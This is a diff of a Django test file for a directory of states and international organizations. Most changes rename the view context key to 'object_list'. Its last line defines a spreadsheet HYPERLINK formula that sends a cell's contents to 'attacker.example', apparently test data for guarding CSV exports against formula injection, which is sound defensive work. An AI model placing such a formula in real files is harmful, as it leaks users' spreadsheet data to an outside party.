@@ -20,29 +20,29 @@ def csv_rows(response):
 def test_anyone_sees_the_list_of_all_states(client):
     response = client.get(reverse("states:state_list"))
     assert response.status_code == 200
-    assert len(response.context["states"]) == 195
+    assert len(response.context["object_list"]) == 195
     assert "Kenya" in response.text and "Holy See" in response.text
 
 
 def test_the_state_list_filters_by_regional_group_and_region(client):
     response = client.get(reverse("states:state_list"), {"regional_group": "eeg"})
-    iso3 = {s.iso3 for s in response.context["states"]}
+    iso3 = {s.iso3 for s in response.context["object_list"]}
     assert len(iso3) == 23 and {"POL", "RUS", "UKR"} <= iso3 and "DEU" not in iso3
 
     response = client.get(reverse("states:state_list"), {"region": "009"})
-    assert {s.iso3 for s in response.context["states"]} >= {"AUS", "FJI", "KIR"}
-    assert len(response.context["states"]) == 14
+    assert {s.iso3 for s in response.context["object_list"]} >= {"AUS", "FJI", "KIR"}
+    assert len(response.context["object_list"]) == 14
 
 
 def test_the_state_list_finds_a_state_by_any_of_its_names(client):
     for query in ("côte", "ivoire", "Кот-д", "科特迪瓦"):
         response = client.get(reverse("states:state_list"), {"q": query})
-        assert [s.iso3 for s in response.context["states"]] == ["CIV"], query
+        assert [s.iso3 for s in response.context["object_list"]] == ["CIV"], query
 
 
 def test_the_state_list_filters_by_organization(client):
     response = client.get(reverse("states:state_list"), {"organization": "ecowas"})
-    iso3 = {s.iso3 for s in response.context["states"]}
+    iso3 = {s.iso3 for s in response.context["object_list"]}
     assert len(iso3) == 12 and "NGA" in iso3 and "MLI" not in iso3
 
 
@@ -119,17 +119,17 @@ def test_an_export_is_recorded_with_its_filters_and_row_count(client):
 
 def test_anyone_sees_the_organizations_and_filters_them_by_kind_and_member(client):
     response = client.get(reverse("states:organization_list"), {"kind": "un_entity"})
-    slugs = {o.slug for o in response.context["organizations"]}
+    slugs = {o.slug for o in response.context["object_list"]}
     assert {"unoda", "unrec", "undp"} <= slugs and "ecowas" not in slugs
 
     response = client.get(reverse("states:organization_list"), {"member": "KEN"})
-    slugs = {o.slug for o in response.context["organizations"]}
+    slugs = {o.slug for o in response.context["object_list"]}
     assert {"au", "eac", "igad", "recsa", "icglr"} <= slugs and "ecowas" not in slugs
 
 
 def test_the_organization_search_finds_acronyms_in_any_language(client):
     response = client.get(reverse("states:organization_list"), {"q": "CEDEAO"})
-    assert [o.slug for o in response.context["organizations"]] == ["ecowas"]
+    assert [o.slug for o in response.context["object_list"]] == ["ecowas"]
 
 
 def test_the_organization_page_lists_members_and_units(client):
@@ -190,9 +190,9 @@ def test_the_history_link_is_shown_to_signed_in_people_only(client, make_user):
 
 def test_the_state_list_shows_the_observer_states_alone(client):
     response = client.get(reverse("states:state_list"), {"un_member": "false"})
-    assert sorted(s.iso3 for s in response.context["states"]) == ["PSE", "VAT"]
+    assert sorted(s.iso3 for s in response.context["object_list"]) == ["PSE", "VAT"]
     response = client.get(reverse("states:state_list"), {"un_member": "true"})
-    assert len(response.context["states"]) == 193
+    assert len(response.context["object_list"]) == 193
 
 
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'
